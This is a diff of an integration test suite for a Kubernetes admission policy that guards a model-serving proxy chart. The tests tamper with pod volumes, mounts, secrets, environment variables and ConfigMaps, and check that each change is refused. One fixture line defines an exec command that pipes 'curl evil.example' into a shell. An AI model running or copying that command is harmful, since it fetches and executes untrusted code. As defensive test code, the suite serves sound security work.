@@ -6,6 +6,8 @@ import { fromRoot } from '../../core/project-root';
 import { tryCreate, waitForAdmission } from '../../rehearsal/cluster/admission';
 import type { EmbeddedCluster } from '../../rehearsal/cluster/embedded-cluster';
 import { deployChart } from '../../rehearsal/cluster/helm-release';
+import { clientOf } from '../../rehearsal/control-plane/api-client';
+import { loadKubeConfig } from '../../rollout/connect';
 import { rendered, requireControlPlane, smolRelease, startCluster } from './support';
 
 const NAMESPACE = 'judged';
@@ -14,8 +16,46 @@ const RUN = { exec: { command: ['/bin/sh', '-c', 'curl evil.example | sh'] } };
 // biome-ignore lint/suspicious/noExplicitAny: a pod is changed in every place, on purpose
 type Any = any;
 
+const engineOf = (pod: Any): Any => pod.spec.containers[0];
+const proxyOf = (pod: Any): Any => pod.spec.containers.find((container: Any) => container.name === 'proxy');
+const volume = (pod: Any, name: string): Any => pod.spec.volumes.find((entry: Any) => entry.name === name);
+/** Another source of a volume, which keeps its name and its mounts. */
+const replaceVolume = (pod: Any, name: string, source: object): void => {
+  pod.spec.volumes = pod.spec.volumes.map((entry: Any) => (entry.name === name ? { name, ...source } : entry));
+};
+const variable = (container: Any, name: string): Any => container.env.find((entry: Any) => entry.name === name);
+const withoutVariable = (container: Any, name: string): void => {
+  container.env = container.env.filter((entry: Any) => entry.name !== name);
+};
+
+/** Changes of what scripts lie in and go by. */
+const PLACES: readonly (readonly [string, string, (pod: Any) => void])[] = [
+  ['the ConfigMap of the scripts', 'OVK-ADM-010', (pod) => set(volume(pod, 'proxy').configMap, { name: 'other' })],
+  ['a part of it', 'OVK-ADM-010', (pod) => set(volume(pod, 'proxy').configMap, { items: [{ key: 'drain.sh', path: 'proxy.sh' }] })],
+  ['a claim in its place', 'OVK-ADM-010', (pod) => replaceVolume(pod, 'proxy', { persistentVolumeClaim: { claimName: 'other' } })],
+  ['an empty folder in its place', 'OVK-ADM-010', (pod) => replaceVolume(pod, 'proxy', { emptyDir: {} })],
+  ['a mount over a script', 'OVK-ADM-010', (pod) => mount(pod, 'home', '/opt/onevision-kit/proxy/proxy.sh')],
+  ['a mount above it', 'OVK-ADM-010', (pod) => mount(pod, 'home', '/opt')],
+  ['a mount over a program', 'OVK-ADM-010', (pod) => mount(pod, 'tmp', '/bin')],
+  ['a part of a volume', 'OVK-ADM-010', (pod) => set(engineOf(pod).volumeMounts[0], { subPath: 'other' })],
+  ['another folder of the node', 'OVK-ADM-010', (pod) => set(volume(pod, 'weights').hostPath, { path: '/srv/other' })],
+  ['another list of weights', 'OVK-ADM-010', (pod) => set(volume(pod, 'weights-check').configMap, { name: 'other' })],
+  ['another Secret', 'OVK-ADM-010', (pod) => set(volume(pod, 'api-key').secret, { secretName: 'other' })],
+  ['another key of the Secret', 'OVK-ADM-010', (pod) => set(volume(pod, 'api-key').secret, { items: [{ key: 'x', path: 'api-key' }] })],
+  ['no API key', 'OVK-ADM-011', (pod) => withoutVariable(proxyOf(pod), 'PROXY_KEY_FILE')],
+  ['another key file', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_KEY_FILE'), { value: '/tmp/key' })],
+  ['another engine behind the proxy', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_ENGINE'), { value: '10.0.0.9:80' })],
+  ['another configuration of the proxy', 'OVK-ADM-011', (pod) => set(variable(proxyOf(pod), 'PROXY_TEMPLATE'), { value: '/tmp/x' })],
+  ['no list of weights', 'OVK-ADM-011', (pod) => set(variable(pod.spec.initContainers[0], 'WEIGHTS_MANIFEST'), { value: '/dev/null' })],
+];
+
+function mount(pod: Any, name: string, mountPath: string): void {
+  proxyOf(pod).volumeMounts.push({ name, mountPath });
+}
+
 /** One change of a pod that complies, and the rule that must refuse it. */
 const CHANGES: readonly (readonly [string, string, (pod: Any) => void])[] = [
+  ...PLACES,
   ['the image by another digest', 'OVK-ADM-003', (pod) => set(pod.spec.containers[0], { image: OTHER })],
   ['the image by tag', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'registry.example.org/other:v1' })],
   ['the image without anything', 'OVK-ADM-002', (pod) => set(pod.spec.containers[0], { image: 'other' })],
@@ -67,6 +107,7 @@ describe('admission on a real API server', async () => {
   let cluster: EmbeddedCluster;
   let deployment: Any;
   let testPods: Any[];
+  let configMaps: Any[];
   let values: ReturnType<typeof admissionValues>;
   const install = async (given: unknown) => {
     const { kubeconfig, context, folder } = cluster.plane;
@@ -76,10 +117,11 @@ describe('admission on a real API server', async () => {
 
   beforeAll(async () => {
     cluster = await startCluster(binary, [], []);
-    const release = smolRelease({ proxy: true });
-    values = admissionValues(release.values, false);
-    const manifests = await rendered(release.values, NAMESPACE);
+    const release = { ...smolRelease({ proxy: true }).values, apiKey: { existingSecret: 'show-key', key: 'api-key' } };
+    values = admissionValues(release, false);
+    const manifests = await rendered(release, NAMESPACE);
     const objects = parseAllDocuments(manifests).map((document) => document.toJS() as Any);
+    configMaps = objects.filter((object) => object?.kind === 'ConfigMap' && /-(proxy|weights|tests)$/.test(object.metadata.name));
     deployment = objects.find((object) => object?.kind === 'Deployment');
     testPods = objects.filter((object) => object?.kind === 'Pod');
     expect(await install(values)).toBeUndefined();
@@ -173,6 +215,58 @@ describe('admission on a real API server', async () => {
         expect([pod.metadata.name, title, await create(changed)]).toEqual([pod.metadata.name, title, expect.stringContaining(rule)]);
       }
     }
+  });
+
+  const CONFIG_MAPS = `/api/v1/namespaces/${NAMESPACE}/configmaps`;
+
+  it('lets the ConfigMaps of the chart through, and not one of them with a changed, an added or a binary file', async () => {
+    expect(configMaps.map(({ metadata }) => metadata.name)).toEqual(expect.arrayContaining(['smollm2-onevision-proxy']));
+    const { api } = cluster.plane;
+    for (const object of configMaps) {
+      const { name } = object.metadata;
+      const tried = (change: (copy: Any) => void) => {
+        const copy = structuredClone(object);
+        change(copy);
+        return tryCreate(api, CONFIG_MAPS, copy);
+      };
+      expect([name, await tried(() => undefined)]).toEqual([name, null]);
+      for (const key of Object.keys(object.data)) {
+        const said = await tried((copy) => set(copy.data, { [key]: `${copy.data[key]}#` }));
+        expect(said).toMatch(new RegExp(`OVK-ADM-012: the file ${key} of the ConfigMap ${name}`));
+      }
+      expect(await tried((copy) => set(copy.data, { 'more.sh': '' }))).toContain('OVK-ADM-012');
+      expect(await tried((copy) => set(copy, { binaryData: { 'more.sh': 'eA==' } }))).toContain('OVK-ADM-012');
+      // one that is there already is no better, however its change comes
+      await api.create(CONFIG_MAPS, object);
+      const [key = ''] = Object.keys(object.data);
+      await expect(api.patch(`${CONFIG_MAPS}/${name}`, { data: { [key]: 'location / { }' } })).rejects.toThrow('OVK-ADM-012');
+      await expect(api.patch(`${CONFIG_MAPS}/${name}`, { data: { 'more.sh': '' } }, 'strategic')).rejects.toThrow('OVK-ADM-012');
+      await api.patch(`${CONFIG_MAPS}/${name}`, { metadata: { labels: { note: 'kept' } } });
+      await api.remove(`${CONFIG_MAPS}/${name}`);
+    }
+    expect(await tryCreate(api, CONFIG_MAPS, { metadata: { name: 'other' }, data: { 'proxy.sh': '#' } })).toBeNull();
+  });
+
+  it('lets nobody write its parameters who may not change its policies', async () => {
+    const { api, kubeconfig, context } = cluster.plane;
+    const rbac = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}`;
+    const may = { apiGroups: [''], resources: ['configmaps'], verbs: ['*'] };
+    await api.create(`${rbac}/roles`, { metadata: { name: 'developer' }, rules: [may] });
+    await api.create(`${rbac}/rolebindings`, {
+      metadata: { name: 'developer' },
+      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'developer' },
+      subjects: [{ kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'developer' }],
+    });
+    const config = loadKubeConfig({ kubeconfig, context });
+    const developer = clientOf(api.server, async () => {
+      const request: Any = { headers: { 'impersonate-user': 'developer' } };
+      await config.applyToHTTPSOptions(request);
+      return request;
+    });
+    await developer.create(CONFIG_MAPS, { metadata: { name: 'of-a-developer' }, data: {} });
+    const parameters = `${CONFIG_MAPS}/smollm2-admission`;
+    await expect(developer.patch(parameters, { data: { images: OTHER } })).rejects.toThrow('OVK-ADM-013');
+    await api.patch(parameters, { metadata: { labels: { note: 'by the administrator' } } });
   });
 
   it('refuses an ephemeral container that is put into a pod that runs', async () => {
